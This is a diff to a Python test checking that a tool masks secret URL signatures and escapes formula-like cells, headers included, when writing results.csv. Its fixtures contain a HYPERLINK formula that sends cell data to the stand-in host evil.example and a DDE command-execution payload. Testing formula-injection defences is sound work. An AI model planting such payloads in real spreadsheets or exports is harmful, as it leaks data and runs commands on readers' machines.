@@ -479,7 +479,7 @@ def test_a_result_whose_text_looks_like_a_query_is_read_and_results_csv_is_sprea
     """Found by an independent probe: stdout was masked before its result line was read, so a text holding
     ``?x=\\"`` lost its closing quote and the unit failed with "no result"; and results.csv wrote a parameter or a
     printed text that starts with "=" as a formula."""
-    result = {"score": 1.5, "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    result = {"score": 1.5, "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)": 2,
               "link": "https://h.example/v1?sig=Sg7sig7sig7s"}
     spec = command_spec(tmp_path, command=[sys.executable, "-c", f"import json; print(json.dumps({result!r}))"],
                         grid={"x": ["=cmd|' /C calc'!A0", "plain"]}, retries=0)
@@ -489,6 +489,6 @@ def test_a_result_whose_text_looks_like_a_query_is_read_and_results_csv_is_sprea
     assert all("sig=***" in link for link in outcome.table["link"])  # the result is masked after it is read
     written = (tmp_path / "out" / "results.csv").read_text()
     assert "Sg7sig7sig7s" not in written
-    cells = [cell for line in written.splitlines()[1:] for cell in next(__import__("csv").reader([line]))]
+    cells = [cell for line in written.splitlines() for cell in next(__import__("csv").reader([line]))]
     assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
-    assert "'=cmd|' /C calc'!A0" in cells and "plain" in cells
+    assert "'=cmd|' /C calc'!A0" in cells and "plain" in cells and "'@SUM(1)" in cells  # a header cell too
